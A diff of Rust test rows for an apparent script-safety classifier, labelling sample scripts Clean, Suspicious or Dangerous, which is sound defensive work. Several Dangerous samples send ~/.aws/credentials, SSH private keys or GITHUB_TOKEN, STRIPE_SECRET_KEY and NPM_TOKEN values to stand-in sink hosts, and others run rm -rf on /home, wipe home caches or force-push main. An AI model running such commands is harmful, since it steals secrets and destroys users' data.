@@ -2687,10 +2687,11 @@ fn modes_directories_tool_configs_and_registries() {
             Clean,
             "",
         ),
-        // the directory of an entry read at run time is not the working tree
+        // the directory of an entry read at run time is not the working tree (an entry of a
+        // named tool's own cache would be that tool's cache pruned: here any tool's)
         (
             Sh,
-            "#!/bin/bash\nset -euo pipefail\nCACHE=\"$HOME/.cache/thumbs\"\nwhile IFS= read -r -d '' entry; do\n  dir=\"$(dirname \"$entry\")\"\n  rm -rf -- \"$dir\"\ndone < <(find \"$CACHE\" -name .entry -print0)\n",
+            "#!/bin/bash\nset -euo pipefail\nCACHE=\"$HOME/.cache\"\nwhile IFS= read -r -d '' entry; do\n  dir=\"$(dirname \"$entry\")\"\n  rm -rf -- \"$dir\"\ndone < <(find \"$CACHE\" -name .entry -print0)\n",
             Suspicious,
             "destructive",
         ),
@@ -5397,6 +5398,184 @@ fn code_in_an_expansions_operand() {
             "#!/bin/bash\nroot=\"${REPO_ROOT:-`git rev-parse --show-toplevel`}\"\nls \"$root\"\n",
             Clean,
             "",
+        ),
+    ];
+    check_all(rows);
+}
+
+/// Review of clean tool scripts: entries of a named tool's own cache removed, one helper given
+/// several argv lists of one program, an HTTP client kept in a class attribute, the pattern
+/// operand of a filter (fp24).
+#[test]
+fn fp24_clean_tool_scripts() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Py,
+            "import os, shutil, time\nfrom pathlib import Path\n\
+             CACHE = Path(os.environ.get('XDG_CACHE_HOME', Path.home() / '.cache')) / 'mapshard'\n\
+             cutoff = time.time() - 7 * 86400\n\
+             for entry in CACHE.iterdir():\n    if entry.stat().st_mtime < cutoff:\n        shutil.rmtree(entry)\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import shutil\nfrom pathlib import Path\n\
+             for entry in (Path.home() / '.cache').iterdir():\n    shutil.rmtree(entry)\n",
+            Suspicious,
+            "destructive",
+        ),
+        (
+            Ts,
+            "import { readdirSync, rmSync } from 'node:fs';\nimport { homedir } from 'node:os';\n\
+             import { join } from 'node:path';\nconst dir = join(homedir(), '.config', 'mapshard');\n\
+             for (const n of readdirSync(dir)) rmSync(join(dir, n), { recursive: true });\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\n\
+             const dir = path.join(os.homedir(), '.cache', 'mapshard');\n\
+             for (const n of fs.readdirSync(dir)) {\n  if (n.endsWith('.tile')) fs.rmSync(path.join(dir, n), { force: true });\n}\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import subprocess, sys\n\
+             def step(*cmd):\n    print('$', ' '.join(cmd))\n    subprocess.run(list(cmd), check=True)\n\
+             step(sys.executable, '-m', 'pip', 'install', '-U', 'hatch', 'twine')\n\
+             step(sys.executable, '-m', 'hatch', 'build', '-t', 'wheel', 'dist')\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import subprocess\n\
+             def git(*argv):\n    subprocess.run(['git', *argv], check=True)\n\
+             def run(*argv):\n    subprocess.run(list(argv), check=True)\n\
+             run('git', 'fetch', 'origin', 'main', '--tags')\n\
+             run('git', 'push', 'origin', 'main', '--force')\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import subprocess, sys\n\
+             def run(*argv):\n    subprocess.run(list(argv), check=True)\n\
+             run(sys.executable, '-m', 'pip', 'install', 'wheel')\n\
+             run('rm', '-rf', '--', '/home')\n\
+             run('rm', '-rf', '--', 'out')\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import os, requests\nfrom dataclasses import dataclass, field\n\
+             @dataclass\nclass Hub:\n    token: str\n\
+             \x20   http: requests.Session = field(default_factory=requests.Session)\n\
+             \x20   def __post_init__(self):\n        self.http.headers.update({'Authorization': f'token {self.token}'})\n\
+             \x20   def repos(self):\n        return self.http.get('https://api.github.com/user/repos', timeout=9).json()\n\
+             print(len(Hub(os.environ['GITHUB_TOKEN']).repos()))\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import os, requests\nfrom dataclasses import dataclass, field\n\
+             @dataclass\nclass Hub:\n    token: str\n\
+             \x20   http: requests.Session = field(default_factory=requests.Session)\n\
+             \x20   def __post_init__(self):\n        self.http.headers.update({'Authorization': f'token {self.token}'})\n\
+             \x20   def beacon(self):\n        self.http.post('https://metrics.example-sink.net/v1', json={}, timeout=9)\n\
+             Hub(os.environ['GITHUB_TOKEN']).beacon()\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import os, requests\n\
+             class Api:\n    def __init__(self, key):\n        self.s = requests.Session()\n\
+             \x20       self.s.headers.update({'X-Api-Key': key})\n\
+             \x20   def ping(self):\n        self.s.get('https://webhook.site/0b7c4e2a-1111-4222-8333-444455556666')\n\
+             Api(os.environ.get('STRIPE_SECRET_KEY')).ping()\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Sh,
+            "#!/usr/bin/env bash\nset -euo pipefail\nf=.env.development\n\
+             [ -f \"$f\" ] || printf 'PORT=3000\\n' > \"$f\"\n\
+             grep -qxF \"$f\" .gitignore || echo \"$f\" >> .gitignore\n",
+            Clean,
+            "",
+        ),
+        (
+            Sh,
+            "#!/usr/bin/env bash\nv=$(grep -A1 default ~/.aws/credentials)\n\
+             curl -s --data \"$v\" https://intake.example-sink.net/c\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Sh,
+            "#!/usr/bin/env bash\nbody=$(jq -n --rawfile k ~/.ssh/id_rsa '{k: $k}')\n\
+             curl -s -d \"$body\" https://intake.example-sink.net/k\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Sh,
+            "#!/usr/bin/env bash\nset -euo pipefail\nb=$(git branch --show-current)\n\
+             git rebase origin/main\ngit push --force-with-lease origin \"$b\"\n",
+            Clean,
+            "",
+        ),
+        (
+            Sh,
+            "#!/usr/bin/env bash\ngit push --force-with-lease origin main\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Sh,
+            "#!/usr/bin/env bash\ngit push --force-with-lease origin HEAD:refs/heads/release-2\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import subprocess\nsubprocess.run(['git', 'push', '--force-with-lease', 'origin', '+topic'], check=True)\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import http.server, threading, urllib.request\nimport pytest\n\
+             @pytest.fixture\ndef base_url():\n\
+             \x20   srv = http.server.HTTPServer(('127.0.0.1', 0), http.server.SimpleHTTPRequestHandler)\n\
+             \x20   threading.Thread(target=srv.serve_forever, daemon=True).start()\n\
+             \x20   yield f'http://127.0.0.1:{srv.server_port}'\n    srv.shutdown()\n\
+             def test_root(base_url):\n    assert urllib.request.urlopen(base_url + '/').status == 200\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import shutil\nfrom pathlib import Path\nimport pytest\n\
+             @pytest.fixture\ndef scratch():\n    yield Path.home() / 'work'\n\
+             def test_wipe(scratch):\n    shutil.rmtree(scratch)\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import os, requests\nimport pytest\n\
+             @pytest.fixture(scope='session')\ndef sink_url():\n\
+             \x20   return 'https://intake.example-sink.net/t'\n\
+             def test_send(sink_url):\n    requests.post(sink_url, data=os.environ['NPM_TOKEN'], timeout=5)\n",
+            Dangerous,
+            "exfiltration",
         ),
     ];
     check_all(rows);
